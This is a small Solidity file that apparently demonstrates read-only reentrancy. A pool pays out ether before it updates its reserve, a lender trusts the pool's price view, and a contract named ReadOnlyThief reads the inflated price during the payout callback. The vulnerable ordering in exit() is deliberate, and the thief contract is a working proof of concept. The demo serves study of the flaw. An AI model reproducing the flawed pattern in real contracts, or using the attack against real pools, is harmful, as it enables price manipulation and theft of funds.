// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

/// Shares in ether and a second asset; what is left of both is booked at different moments.
contract Pool {
    uint256 public supply = 100;
    /// Of the second asset, worth as much as ether.
    uint256 public reserve;

    constructor() payable {
        reserve = msg.value;
    }

    /// Of a share, in wei.
    function price() external view returns (uint256) {
        return (address(this).balance + reserve) / supply;
    }

    function exit(uint256 shares) external {
        uint256 etherPart = (address(this).balance * shares) / supply;
        uint256 reservePart = (reserve * shares) / supply;
        supply -= shares;
        (bool sent, ) = msg.sender.call{value: etherPart}("");
        require(sent);
        // Whoever was paid has seen fewer shares own the whole reserve
        reserve -= reservePart;
    }
}

/// Trusts the pool's price.
contract Lender {
    Pool pool;
    uint256 public seen;
    uint256 public looks;

    constructor(Pool pool_) {
        pool = pool_;
    }

    function borrow() external {
        seen = pool.price();
        looks++;
    }
}

contract ReadOnlyThief {
    Pool pool;
    Lender lender;

    constructor(Pool pool_, Lender lender_) {
        pool = pool_;
        lender = lender_;
    }

    function attack() external {
        pool.exit(50);
    }

    receive() external payable {
        lender.borrow();
    }
}
